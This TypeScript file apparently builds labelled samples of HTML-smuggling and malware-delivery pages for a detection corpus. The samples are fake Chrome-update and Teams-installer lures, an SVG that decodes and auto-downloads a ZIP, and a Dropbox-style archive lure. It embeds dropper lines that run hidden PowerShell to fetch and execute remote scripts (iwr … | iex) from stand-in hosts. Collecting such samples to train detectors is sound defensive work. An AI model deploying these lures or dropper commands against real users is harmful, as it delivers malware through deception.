import { type Entry } from '../entry.js';
import { baseCss, doc } from '../d-parts.js';

/** HTML smuggling and malware delivery: Blob / data: URLs building .zip/.iso/.html/.js downloads, fake update .exe. Written for corpus/d. */

// A small but well-formed ZIP (one stored file "Invoice_0428.js") written out byte by byte, so the page carries a real archive.
function zipOf(name: string, content: string): Buffer {
  const data = Buffer.from(content);
  let crc = ~0;
  for (const b of data) {
    crc ^= b;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  crc = ~crc >>> 0;
  const fn = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0); local.writeUInt16LE(20, 4); local.writeUInt32LE(crc, 14); local.writeUInt32LE(data.length, 18); local.writeUInt32LE(data.length, 22); local.writeUInt16LE(fn.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0); central.writeUInt16LE(20, 4); central.writeUInt16LE(20, 6); central.writeUInt32LE(crc, 16); central.writeUInt32LE(data.length, 20); central.writeUInt32LE(data.length, 24); central.writeUInt16LE(fn.length, 28);
  const end = Buffer.alloc(22);
  const cdOffset = 30 + fn.length + data.length;
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(1, 8); end.writeUInt16LE(1, 10); end.writeUInt32LE(46 + fn.length, 12); end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fn, data, central, fn, end]);
}
const JS_DROPPER = "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -ep bypass -c \"iwr https://files-cdn.invoice-archive.net/p/a.ps1 -OutFile $env:TEMP\\\\a.ps1; & $env:TEMP\\\\a.ps1\"',0);";
const ZIP_B64 = zipOf('Invoice_0428.js', JS_DROPPER).toString('base64');
// "MZ" header and DOS stub of a PE file, padded: what a fake updater download looks like on the wire.
const FAKE_EXE = Buffer.concat([Buffer.from('4d5a90000300000004000000ffff0000b800000000000000400000000000000000000000000000000000000000000000000000000000000000000000800000000e1fba0e00b409cd21b8014ccd21546869732070726f6772616d2063616e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2400000000000000', 'hex'), Buffer.from('PE\0\0'), Buffer.alloc(4096, 0x90)]);

export const entries: Entry[] = [

{
  id: 'd-smug-fake-browser-update-exe',
  label: 'malware',
  kind: 'fake-update-download',
  url: 'https://www.maple-ridge-quilters.org/events/winter-show',
  body: doc({
    title: 'Winter Quilt Show 2026 – Maple Ridge Quilters',
    css: `body{margin:0;font-family:Arial}#fu{position:fixed;inset:0;background:#f1f3f4;z-index:99;display:flex;align-items:center;justify-content:center}.u{background:#fff;max-width:520px;padding:40px;border-radius:8px;text-align:center;box-shadow:0 2px 10px rgba(0,0,0,.1)}.u a{display:inline-block;background:#1a73e8;color:#fff;padding:12px 30px;border-radius:4px;text-decoration:none;margin-top:10px}`,
    body: `<main><h1>Winter Quilt Show 2026</h1><p>Join us on January 17–18 at the Community Hall…</p></main>
<div id="fu"><div class="u"><img src="wp-content/uploads/chrome-logo.png" width="72" alt="Chrome"><h2>Your browser is out of date!</h2><p>Google Chrome could not update automatically. This page may not display correctly. Update Chrome to the latest version (131.0.6778.86) to continue.</p><a href="https://chrome-updates.browser-patch-cdn.com/release/ChromeUpdate_131.0.6778.86.exe" id="u">Update Chrome</a><p style="font-size:12px;color:#777">Recommended for your security.</p></div></div>
<script>if(!/Windows/.test(navigator.userAgent)){}document.getElementById('u').addEventListener('click',function(){setTimeout(function(){document.querySelector('.u').innerHTML+='<p>Run <b>ChromeUpdate_131.exe</b> from your Downloads folder to finish.</p>'},500)})</script>`,
  }),
  routes: {
    'chrome-updates.browser-patch-cdn.com/release/ChromeUpdate_131.0.6778.86.exe': { status: 200, headers: { 'content-type': 'application/x-msdownload', 'content-disposition': 'attachment; filename="ChromeUpdate_131.0.6778.86.exe"' }, body: FAKE_EXE },
  },
},

{
  id: 'd-smug-fake-teams-installer-msix',
  label: 'malware',
  kind: 'fake-installer-download',
  url: 'https://teams-download.microsoft-meetings-app.com/en-us/download-app',
  body: doc({
    title: 'Download Microsoft Teams Desktop and Mobile Apps | Microsoft Teams',
    css: baseCss('#5b5fc7') + `.hero{text-align:center;padding:60px 20px}`,
    body: `<div class="hero"><img src="img/teams.svg" width="80" alt="Microsoft Teams"><h1>Download Microsoft Teams</h1><p>Connect and collaborate with anyone from anywhere on Teams.</p><a class="btn" href="/files/MSTeamsSetup_x64.msix" id="d">Download for desktop</a><p class="muted">Your meeting organizer requires the desktop app for this meeting (ID 392 118 440 27).</p></div>`,
  }),
  routes: {
    'teams-download.microsoft-meetings-app.com/files/MSTeamsSetup_x64.msix': { status: 200, headers: { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="MSTeamsSetup_x64.msix"' }, body: zipOf('AppxManifest.xml', '<?xml version="1.0"?><Package><Applications><Application Id="App" Executable="VFS/ProgramFilesX64/teams/StartupScript.ps1"/></Applications></Package>') },
  },
},

{
  id: 'd-smug-svg-attachment',
  label: 'malware',
  kind: 'smuggling-svg',
  url: 'https://attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg',
  routes: {
    'attachments.voicemsg-cloud.net/m/VM_Recording_0612.svg': {
      status: 200,
      headers: { 'content-type': 'image/svg+xml' },
      body: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" height="300" viewBox="0 0 600 300">
<rect width="600" height="300" fill="#f3f4f6"/><text x="40" y="80" font-family="Arial" font-size="24" fill="#111">▶ Voice message (0:38)</text><text x="40" y="120" font-family="Arial" font-size="16" fill="#555">Preparing audio player download…</text>
<script type="text/javascript"><![CDATA[
(function(){var d='${ZIP_B64}';var b=atob(d),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);
var blob=new Blob([u],{type:'application/zip'});var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=URL.createObjectURL(blob);a.download='VM_Recording_0612.zip';document.documentElement.appendChild(a);a.click();})();
]]></script></svg>`,
    },
  },
},

{
  id: 'd-smug-password-zip-dropbox',
  label: 'malware',
  kind: 'malware-download-lure',
  url: 'https://transfer.filedrop-secure.net/d/Q2-Statement',
  body: doc({
    title: 'Dropbox Transfer – Q2-Statement',
    css: baseCss('#0061fe') + `.d{max-width:480px;margin:70px auto;text-align:center}`,
    body: `<div class="d card"><img src="img/dropbox-glyph.svg" alt="Dropbox" width="40"><h1 style="font-size:20px">Q2-Statement.zip</h1><p class="muted">2 files · 1.4 MB · Expires in 6 days</p><a class="btn btn-block" href="/d/Q2-Statement/file/Q2-Statement.zip">Download</a><p class="muted">Archive password: <b>Q2-2026</b> (protected for your privacy)</p></div>`,
  }),
  routes: {
    'transfer.filedrop-secure.net/d/Q2-Statement/file/Q2-Statement.zip': { status: 200, headers: { 'content-type': 'application/zip', 'content-disposition': 'attachment; filename="Q2-Statement.zip"' }, body: zipOf('Q2-Statement.pdf.lnk', 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F C:\\Windows\\System32\\cmd.exe /c powershell -w h -c "iwr https://filedrop-secure.net/s/st.ps1|iex"') },
  },
},

];
